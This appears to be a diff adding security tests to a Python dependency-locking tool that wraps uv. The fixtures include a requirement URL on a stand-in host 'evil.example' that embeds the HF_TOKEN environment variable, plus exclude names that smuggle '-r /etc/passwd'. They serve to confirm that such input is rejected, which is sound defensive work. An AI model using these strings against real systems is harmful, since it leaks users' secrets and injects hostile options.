@@ -204,6 +204,8 @@ def test_a_mirrored_index_is_asked_instead(store: Store) -> None:
         ("alpha @ git+file:///srv/a", Unresolvable),
         ("alpha @ https://code.example/a.tar.gz", Unresolvable),
         ("alpha @ http://code.example/a-1-py3-none-any.whl", Unresolvable),
+        # uv would put the user's own environment variable there and send it
+        ("alpha @ https://evil.example/${HF_TOKEN}/a-1-py3-none-any.whl", UnsafeInput),
         ("", UnsafeInput),
     ],
 )
@@ -213,6 +215,12 @@ def test_hostile_requirements_never_reach_uv(requirement: str, error: type[Cpack
     if "@" in requirement:
         assert "python.exclude: [alpha]" in str(caught.value)
     assert parse_requirements([requirement], exclude=["alpha"]) == [] if "@" in requirement else True
+
+
+@pytest.mark.parametrize("name", ["x\n-r /etc/passwd", "-r /etc/passwd", "x @ https://evil.example/x.whl", ""])
+def test_what_is_excluded_is_a_name_and_nothing_else(name: str, store: Store) -> None:
+    with pytest.raises(UnsafeInput, match=r"python\.exclude"):
+        lock(Index(), [], store, exclude=[name])
 
 
 def test_a_wheel_by_https_url_is_a_requirement() -> None:
